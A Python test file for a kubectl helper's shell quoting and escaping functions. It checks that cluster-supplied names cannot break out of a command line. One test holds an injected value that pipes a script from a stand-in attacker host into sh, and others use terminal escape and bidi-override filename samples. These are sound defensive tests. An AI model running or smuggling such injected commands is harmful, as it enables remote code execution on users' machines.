"""Quoting and escaping of names that come from a cluster or a file."""

from __future__ import annotations

import shlex
import subprocess

from hypothesis import given, settings
from hypothesis import strategies as st

from kubectl_kcache.text import command, escape, quote


def test_plain_names_stay_plain():
    assert command("kubectl", "-n", "team-a", "get", "pod", "model-1.a_b") == "kubectl -n team-a get pod model-1.a_b"


def test_hostile_name_is_one_word():
    line = command("kubectl", "uncordon", "n1; curl evil.example|sh #")
    assert line == "kubectl uncordon 'n1; curl evil.example|sh #'"
    assert shlex.split(line) == ["kubectl", "uncordon", "n1; curl evil.example|sh #"]


def test_iterables_expand_to_several_words():
    assert command("kubectl", "label", "node", "n", ["a=b", "c d=e"]) == "kubectl label node n a=b 'c d=e'"


@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Cs", "Zl", "Zp"))))
def test_any_printable_value_round_trips_through_the_shell(value):
    assert shlex.split(command("echo", value)) == ["echo", value]
    assert shlex.split(quote(value)) == [value]


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")))
def test_any_value_reaches_bash_as_one_word_and_on_one_line(value):
    word = quote(value)
    assert "\n" not in word and not any(ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F for ch in word)
    out = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, env={"LC_ALL": "C.UTF-8"})
    assert out.returncode == 0 and out.stdout == value.encode(), (word, out)


def test_newlines_and_controls_are_written_as_ansi_c_quoting():
    assert quote("a\nb") == "$'a\\nb'"
    assert quote("it's\x1b[2J") == "$'it\\'s\\x1b[2J'"
    assert quote("rlo\u202e") == "$'rlo\\u202e'"


def test_escape_controls_and_bidi():
    assert escape("a\x1b[31mred") == "a\\x1b[31mred"
    assert escape("evil\u202egnp.exe") == "evil\\u202egnp.exe"
    assert escape("nul\x00") == "nul\\x00"
    assert escape("two\nlines\tx") == "two\\nlines\\tx"
    assert escape("two\nlines", keep_newlines=True) == "two\nlines"
    assert escape("plain ünïcode ✓") == "plain ünïcode ✓"


@given(st.text())
def test_escaped_text_has_no_control_characters(value):
    out = escape(value)
    assert not any(ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F for ch in out)
    assert not any(ch in out for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\ufeff")
